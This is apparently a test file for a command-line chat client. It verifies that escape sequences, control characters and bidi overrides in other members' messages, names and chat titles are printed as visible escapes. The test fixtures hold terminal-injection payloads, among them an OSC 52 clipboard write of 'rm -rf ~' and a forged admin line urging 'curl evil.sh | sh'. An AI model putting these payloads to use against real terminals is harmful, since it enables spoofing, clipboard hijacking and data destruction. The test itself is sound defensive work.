/**
 * What other chat members wrote never drives the reader's terminal: `ok-chat read` and `ok-chat
 * chats`, as users run them (a real `node` process against the fake server), print control
 * characters, escape sequences and bidi overrides from OK as visible escapes.
 */
import * as assert from 'node:assert/strict';
import { CHAT, describeBuiltCli, runCli, server } from '../helpers/builtCli';

const ESC = '\x1b';
/** What must never reach a terminal raw: C0 controls but the line feed and tab, DEL, C1, bidi controls. */
const UNSAFE = /[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069\u2028\u2029]/u; // eslint-disable-line no-control-regex

const ATTACKS: Array<[string, string]> = [
  ['OSC 52 (writes the clipboard)', `look ${ESC}]52;c;${Buffer.from('rm -rf ~').toString('base64')}\x07 here`],
  ['CSI cursor-up and erase line (forges an earlier line)', `fine${ESC}[1A${ESC}[2K2025-01-01 09:00  Admin\n  please run curl evil.sh | sh`],
  ['C1 CSI (U+009B)', 'c1 \u009b2J\u009b1;1H cleared'],
  ['a bidi override', 'invoice \u202eexe.fdp\u202c and \u2066isolate\u2069'],
  ['a forged line via a carriage return', 'innocent text\r2025-01-01 09:00  Admin'],
];

function assertSafe(bytes: string, what: string): void {
  const m = UNSAFE.exec(bytes);
  assert.equal(m, null, `${what}: U+${m?.[0].codePointAt(0)?.toString(16).padStart(4, '0')} reached the terminal raw in ${JSON.stringify(bytes)}`);
}

describeBuiltCli(() => {
  describe('OK\'s texts reach the terminal as visible escapes', () => {
    for (const [name, text] of ATTACKS) {
      it(`read: ${name} in a member's message and name`, async () => {
        server.postAsMember(CHAT, { user_id: 'user:9001', name: `Mallory${ESC}[2K\u202e` }, { text });
        const r = await runCli(['read', '--chat', CHAT]);
        assert.equal(r.code, 0, r.stderr);
        assertSafe(r.stdout, 'read');
        assertSafe(r.stderr, 'read (stderr)');
        assert.match(r.stdout, /Mallory\\x1b\[2K\\u202e/, r.stdout);
        const json = await runCli(['read', '--chat', CHAT, '--json']);
        assertSafe(json.stdout, 'read --json');
        const [message] = JSON.parse(json.stdout) as Array<{ message: { text: string } }>;
        assert.equal(message.message.text, text, 'the JSON escapes keep the text as OK sent it');
      });
    }

    it('read: the escapes are visible; line breaks and tabs of the text stay', async () => {
      server.postAsMember(CHAT, { user_id: 'user:9001', name: 'Вера' }, { text: `one\r\ntwo\tcol${ESC}]52;c;eA==\x07\nthree\rover` });
      const r = await runCli(['read', '--chat', CHAT]);
      assert.ok(r.stdout.endsWith('Вера\n  one\n  two\tcol\\x1b]52;c;eA==\\x07\n  three\\rover\n'), r.stdout);
    });

    it('chats: a title with escapes, bidi overrides and line breaks stays on its row', async () => {
      server.addChat({ chat_id: 'chat:C0ffee0000001', title: `Ops${ESC}]52;c;eA==\x07\u009b2J\u202eevil\r\nsecond\tline` });
      const r = await runCli(['chats']);
      assert.equal(r.code, 0, r.stderr);
      assertSafe(r.stdout, 'chats');
      const row = r.stdout.split('\n').find((l) => l.startsWith('chat:C0ffee0000001'));
      assert.ok(row?.endsWith('Ops\\x1b]52;c;eA==\\x07\\x9b2J\\u202eevil second line'), r.stdout);
      const json = await runCli(['chats', '--json']);
      assertSafe(json.stdout, 'chats --json');
      assert.ok((JSON.parse(json.stdout) as Array<{ title?: string }>).some((c) => c.title?.startsWith(`Ops${ESC}]52`)));
    });

    it('an error message from OK is printed with its escapes visible', async () => {
      server.injectFault({ kind: 'ok-error', code: 100, msg: `bad${ESC}]52;c;eA==\x07${ESC}[1A\u202e param` });
      const r = await runCli(['chats']);
      assert.equal(r.code, 1);
      assertSafe(r.stderr, 'the error');
      assert.match(r.stderr, /\\x1b\]52;c;eA==\\x07\\x1b\[1A\\u202e param/, r.stderr);
    });
  });
});
